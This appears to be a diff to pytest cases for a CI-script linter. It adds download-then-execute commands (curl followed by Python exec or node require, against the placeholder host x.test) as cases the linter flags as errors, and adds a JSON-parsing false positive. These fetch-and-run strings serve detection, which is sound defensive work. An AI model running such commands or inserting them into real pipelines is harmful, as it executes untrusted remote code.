@@ -369,6 +369,8 @@ def with_script(script: str, job: str = "test") -> str:
         "curl -o /tmp/s https://x.test/s && bash -ec '/tmp/s --now'",
         "curl -o /tmp/s https://x.test/s && chmod 0755 /tmp/s",
         "curl -fsS https://x.test/s | tee /tmp/s >/dev/null; . /tmp/s",
+        "curl -fsSo x.py https://x.test/x.py\npython3 -c 'exec(open(\"x.py\").read())'",
+        "curl -fsSo x.js https://x.test/x.js\nnode -e 'require(\"./x.js\")'",
     ],
 )
 def test_a_downloaded_file_that_is_then_run_is_an_error(script: str) -> None:
@@ -394,6 +396,7 @@ def test_a_download_run_by_a_later_step_of_the_job_is_reported_there() -> None:
         # Read as data, not run: false positives a red team found.
         'curl -fsS "$BASE_URL/health" | python3 -m json.tool',
         'curl -fsS -o health.json "$BASE_URL/health"\npython3 -m json.tool health.json',
+        "curl -fsS -o h.json https://x.test/h\npython3 -c 'import json; print(json.load(open(\"h.json\")))'",
         "curl -fsS https://x.test/h | python3 -c 'import json, sys; json.load(sys.stdin)'",
         "kubectl apply -f k8s/dev/ && kubectl -n x get svc -o jsonpath='{.spec}'",
     ],
